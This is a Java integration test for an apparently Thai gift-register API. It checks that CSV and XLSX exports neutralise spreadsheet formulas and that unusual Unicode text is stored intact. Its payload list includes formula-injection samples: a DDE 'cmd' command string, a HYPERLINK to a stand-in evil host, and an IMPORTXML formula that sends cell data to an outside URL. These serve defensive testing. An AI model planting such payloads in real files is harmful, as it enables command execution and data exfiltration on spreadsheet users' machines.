package th.integrity.gifts.hostile;

import th.integrity.testkit.Hostile;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.Test;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Combinators;

import tools.jackson.databind.JsonNode;

import th.integrity.testkit.TestIssuer;
import th.integrity.gifts.IntegrationTestSupport;
import th.integrity.testkit.Hostile.Body;

/**
 * Text a spreadsheet would run — a giver's name, description, valuation or reason starting with {@code = + - @},
 * also after a tab or carriage return — comes out of the register's CSV and XLSX as inert text; and odd but
 * valid Unicode text (Thai combining marks, zero-width and bidi controls, emoji) is stored exactly as sent.
 * Uses its own agency so the other register tests' totals are untouched.
 */
class FormulaAndOddTextPropertiesTest extends IntegrationTestSupport {

    private static final String TOWN = "formulatown";
    private static final List<String> PREFIXES = List.of("=", "+", "-", "@", "\t=", "\r=", "\t+", "\r@", "\t-", " =");
    private static final List<String> FORMULAS = List.of("cmd|' /C calc'!A0", "HYPERLINK(\"http://evil.example\",\"ดู\")",
            "1+1", "SUM(A1:A9)", "IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")", "2568");

    @Test
    void formulasInEveryTextFieldStayInertInCsvAndXlsx() throws Exception {
        String staff = TestIssuer.shared().builder("f-" + UUID.randomUUID()).agency(TOWN).roles("STAFF")
                .claim("name", "ผู้ทดสอบสูตร").sign();
        var payloads = Combinators.combine(Arbitraries.of(PREFIXES), Arbitraries.of(FORMULAS))
                .as((prefix, formula) -> new Body("formula", prefix + formula));
        List<String> sent = Hostile.samples(payloads, 40).map(Body::json).toList();
        List<String> shown = new ArrayList<>();
        for (int i = 0; i < sent.size(); i += 4) {
            // the register shows giver, description and valuation (the reason for keeping is not a column)
            shown.addAll(sent.subList(i, i + 3));
            HttpResponse<String> response = declare(staff, gift("100.00", "KEPT", Map.of("offeredOn", "2024-01-10",
                    "giver.name", sent.get(i), "description", sent.get(i + 1), "valuation", sent.get(i + 2),
                    "acceptanceReason", sent.get(i + 3))));
            assertThat(response.statusCode()).as(response.body()).isEqualTo(201);
        }
        String officer = TestIssuer.shared().token("officer-f", TOWN, "OFFICER");

        byte[] csvBytes = getBytes("/api/gifts/registers/2567/FY?format=csv", officer, null).body();
        List<String> csvCells = csvCells(new String(csvBytes, 3, csvBytes.length - 3, StandardCharsets.UTF_8));
        List<String> xlsxCells = new ArrayList<>();
        HttpResponse<byte[]> xlsx = getBytes("/api/gifts/registers/2567/FY?format=xlsx", officer, null);
        try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(xlsx.body()));
                var rows = workbook.getFirstSheet().openStream()) {
            rows.forEach((Row row) -> row.forEach(cell -> xlsxCells.add(cell == null ? "" : cell.getRawValue())));
        }

        for (List<String> cells : List.of(csvCells, xlsxCells)) {
            assertThat(cells).noneMatch(FormulaAndOddTextPropertiesTest::wouldRun);
            // each payload is there, as sent less the surrounding white space, behind an apostrophe
            for (String payload : shown) {
                assertThat(cells).contains("'" + payload.strip());
            }
        }
    }

    /** What Excel, LibreOffice or Google Sheets would take for a formula. */
    private static boolean wouldRun(String cell) {
        return cell != null && !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0 && !cell.equals("-");
    }

    @Test
    void oddButValidTextIsStoredExactly() {
        String staff = newStaff();
        var texts = Combinators.combine(Hostile.oddText(1, 200), Hostile.oddText(1, 1000))
                .as((name, description) -> new Body("odd", json.writeValueAsString(List.of(name, description))));
        Hostile.samples(texts, 40).forEach(sample -> {
            JsonNode pair = json.readTree(sample.json());
            String name = pair.get(0).asString();
            String description = pair.get(1).asString();
            HttpResponse<String> response = declare(staff, gift("10.00", "KEPT",
                    Map.of("giver.name", name, "description", description)));
            if (name.isBlank() || description.isBlank()) {
                Hostile.assertRefusedAsProblem(json, sample, response);
                return;
            }
            assertThat(response.statusCode()).as(sample + " " + response.body()).isEqualTo(201);
            JsonNode stored = body(get("/api/gifts/declarations/" + body(response).path("id").asString(), staff));
            assertThat(stored.at("/giver/name").asString()).isEqualTo(name.strip());
            assertThat(stored.path("description").asString()).isEqualTo(description.strip());
        });
    }

    /** RFC 4180 cells, each line's cells in order (quotes undone). */
    private static List<String> csvCells(String csv) {
        List<String> cells = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < csv.length(); i++) {
            char c = csv.charAt(i);
            if (quoted) {
                if (c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
                    cell.append('"');
                    i++;
                } else if (c == '"') {
                    quoted = false;
                } else {
                    cell.append(c);
                }
            } else if (c == '"') {
                quoted = true;
            } else if (c == ',' || c == '\n') {
                cells.add(cell.toString());
                cell.setLength(0);
            } else if (c != '\r') {
                cell.append(c);
            }
        }
        cells.add(cell.toString());
        return cells;
    }
}
